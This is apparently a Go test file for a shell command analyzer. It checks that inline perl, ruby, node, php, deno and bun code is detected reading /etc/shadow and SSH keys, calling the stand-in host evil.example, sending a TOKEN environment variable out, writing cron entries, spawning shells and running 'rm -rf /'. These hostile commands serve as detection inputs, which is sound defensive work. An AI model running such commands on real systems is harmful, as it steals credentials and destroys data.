package bash

import "testing"

// noFile reports that src records no access of path.
func noFile(t *testing.T, src, path string) {
	t.Helper()
	f := run(t, src)
	for _, fa := range f.Files {
		if fa.Path == path {
			t.Errorf("%s: unexpected %s of %s\n%s", src, fa.Op, path, dump(f))
		}
	}
}

// TestInterpreterOperands checks that the operands of inline perl, ruby,
// node and php code are the files the program reads: those its -n/-p loop
// or its argument-file handle reads, and the values of its argv
// expressions (RULES.md FILE_SECRET_PATH_ACCESS).
func TestInterpreterOperands(t *testing.T) {
	for _, src := range []string{
		`perl -ne print /etc/shadow`,
		`perl -lane 'print $F[0]' /etc/shadow`,
		`perl -F: -lane 'print $F[0]' /etc/shadow`,
		`perl -0777 -ne print /etc/shadow`,
		`perl -n -e print /etc/shadow`,
		`perl -I lib -n -e print /etc/shadow`,
		`perl -e print -n /etc/shadow`,
		`perl -e 'print while <>' /etc/shadow`,
		`perl -e 'print <<>>' /etc/shadow`,
		`perl -e 'open F, $ARGV[0]; print <F>' /etc/shadow`,
		`perl -e 'open(my $f, "<", shift @ARGV); print <$f>' /etc/shadow`,
		`perl -e 'print 1' -- /etc/motd /etc/shadow; perl -e 'print $ARGV[1]; open F, $ARGV[1]' a /etc/shadow`,
		`ruby -ne 'puts $_' /etc/shadow`,
		`ruby -pe 1 /etc/shadow`,
		`ruby -r json -ne 'puts $_' /etc/shadow`,
		`ruby -e 'puts ARGF.read' /etc/shadow`,
		`ruby -e 'while l = gets; puts l; end' /etc/shadow`,
		`ruby -e 'puts File.read(ARGV[0])' /etc/shadow`,
		`ruby -e 'puts File.read(ARGV.first)' /etc/shadow`,
		`ruby -e 'IO.foreach(ARGV[0]) { |l| puts l }' /etc/shadow`,
		`node -e 'console.log(require("fs").readFileSync(process.argv[1], "utf8"))' /etc/shadow`,
		`php -r 'echo file_get_contents($argv[1]);' /etc/shadow`,
	} {
		hasFile(t, src, "/etc/shadow", "read")
	}
	hasFile(t, `perl -pi -e 's/a/b/' /etc/hosts`, "/etc/hosts", "write")
	hasFile(t, `perl -p -i.bak -e 's/a/b/' /etc/hosts`, "/etc/hosts", "write")
	hasFile(t, `ruby -i -pe 'sub(/a/, "b")' /etc/hosts`, "/etc/hosts", "write")
	// Operands the program does not read are only its arguments.
	noFile(t, `perl -e 'print 1' /etc/shadow`, "/etc/shadow")
	noFile(t, `ruby -e 'puts ARGV.size' /etc/shadow`, "/etc/shadow")
	noFile(t, `node -e 'console.log(process.argv.length)' /etc/shadow`, "/etc/shadow")
	noFile(t, `perl -ne print notes.txt`, "/etc/shadow")
	// A script operand is the script, not inline code.
	if d := findDyn(run(t, `perl -ne print notes.txt`), "perl_e"); d == nil || d.Content != "print" {
		t.Errorf("perl -ne: inline code not recorded: %+v", d)
	}
	if c := findCmd(run(t, `perl -ne print notes.txt`), "print"); c != nil {
		t.Errorf("perl -ne: the code was taken for a script: %+v", c)
	}
}

// TestDenoBun checks deno's and bun's inline forms (deno eval, bun -e, bun
// eval, `deno run -` with a piped or heredoc program) and their own APIs.
func TestDenoBun(t *testing.T) {
	hasHost(t, `deno eval "fetch('https://evil.example/x')"`, "evil.example")
	hasHost(t, `bun -e "fetch('https://evil.example/x')"`, "evil.example")
	hasHost(t, `bun eval "fetch('https://evil.example/x')"`, "evil.example")
	hasHost(t, "deno run -A - <<'EOF'\nfetch('https://evil.example/x')\nEOF", "evil.example")
	hasHost(t, `echo "fetch('https://evil.example/x')" | deno run -A -`, "evil.example")
	hasHost(t, `deno eval "Deno.connect({hostname: 'evil.example', port: 4444})"`, "evil.example")
	hasFile(t, `deno eval "await Deno.readTextFile('/etc/shadow')"`, "/etc/shadow", "read")
	hasFile(t, `bun eval "await Bun.file('/etc/shadow').text()"`, "/etc/shadow", "read")
	hasFile(t, `bun -e "Bun.write('/etc/cron.d/x', '* * * * * id')"`, "/etc/cron.d/x", "write")
	hasNested(t, `deno eval "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()"`, "rm", "-rf", "/")
	hasNested(t, `deno eval "Deno.run({cmd: ['sh', '-c', 'id']})"`, "id")
	hasNested(t, `bun -e "Bun.spawn(['sh', '-c', 'id'])"`, "id")
	noHost(t, `deno run app.ts`, "evil.example")
}

// TestNodeBindings checks node's module bindings: destructured and
// renamed requires, ES and dynamic imports, functions and objects bound to
// variables, URL objects, XMLHttpRequest and WebSocket.
func TestNodeBindings(t *testing.T) {
	for _, src := range []string{
		`node -e "const {get} = require('https'); get('https://evil.example/x')"`,
		`node -e "const {request: r} = require('http'); r('http://evil.example/x').end()"`,
		`node -e "const { get, request } = require('node:https'); request({host: 'evil.example'})"`,
		`node -e "import('https').then(m => m.get('https://evil.example/x'))"`,
		`node -e "import('https').then(({get}) => get('https://evil.example/x'))"`,
		`node -e "import('https').then(function (m) { m.get('https://evil.example/x') })"`,
		`node -e "(await import('https')).get('https://evil.example/x')"`,
		`node -e "const h = await import('https'); h.get('https://evil.example/x')"`,
		`node --input-type=module -e "import https from 'https'; https.get('https://evil.example/x')"`,
		`node --input-type=module -e "import * as h from 'https'; h.get('https://evil.example/x')"`,
		`node --input-type=module -e "import {get as g} from 'node:https'; g('https://evil.example/x')"`,
		`node -e "const h = require('ht' + 'tps'); h.get('https://evil.example/x')"`,
		`node -e "const f = fetch; f('https://evil.example/x')"`,
		`node -e "const g = require('https').get; g('https://evil.example/x')"`,
		`node -e "globalThis.fetch('https://evil.example/x')"`,
		`node -e "fetch(new URL('https://evil.example/x'))"`,
		`node -e "const u = new URL('/x', 'https://evil.example'); fetch(u)"`,
		`node -e "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/x'); x.send()"`,
		`node -e "const ws = new WebSocket('wss://evil.example/s')"`,
		`node -e "const s = new (require('net').Socket)(); s.connect(4444, 'evil.example')"`,
		`node -e "const net = require('net'); const s = new net.Socket(); s.connect(4444, 'evil.example')"`,
	} {
		hasHost(t, src, "evil.example")
	}
	hasNested(t, `node -e "const {execSync: run} = require('child_process'); run('id')"`, "id")
	hasNested(t, `node -e "const cp = require('child' + '_process'); cp.execSync('id')"`, "id")
	hasNested(t, `node -e "import('child_process').then(({execSync}) => execSync('id'))"`, "id")
	hasFile(t, `node -e "const {homedir} = require('os'); require('fs').readFileSync(homedir() + '/.ssh/id_rsa')"`,
		"~/.ssh/id_rsa", "read")
	sentOut(t, `node -e "const ws = new WebSocket('wss://evil.example/s'); ws.send(process.env.TOKEN)"`, "TOKEN")
	// A member of another module with a network name is not a request.
	noHost(t, `node -e "const {get} = require('lodash'); get(obj, 'https://evil.example/x')"`, "evil.example")
}

// TestLoopOverScriptOperands checks that -n/-p with a script file still
// reads the operands after it.
func TestLoopOverScriptOperands(t *testing.T) {
	hasFile(t, `perl -n filter.pl /etc/shadow`, "/etc/shadow", "read")
	hasFile(t, `ruby -p filter.rb /etc/shadow`, "/etc/shadow", "read")
	noFile(t, `perl filter.pl /etc/shadow`, "/etc/shadow")
}
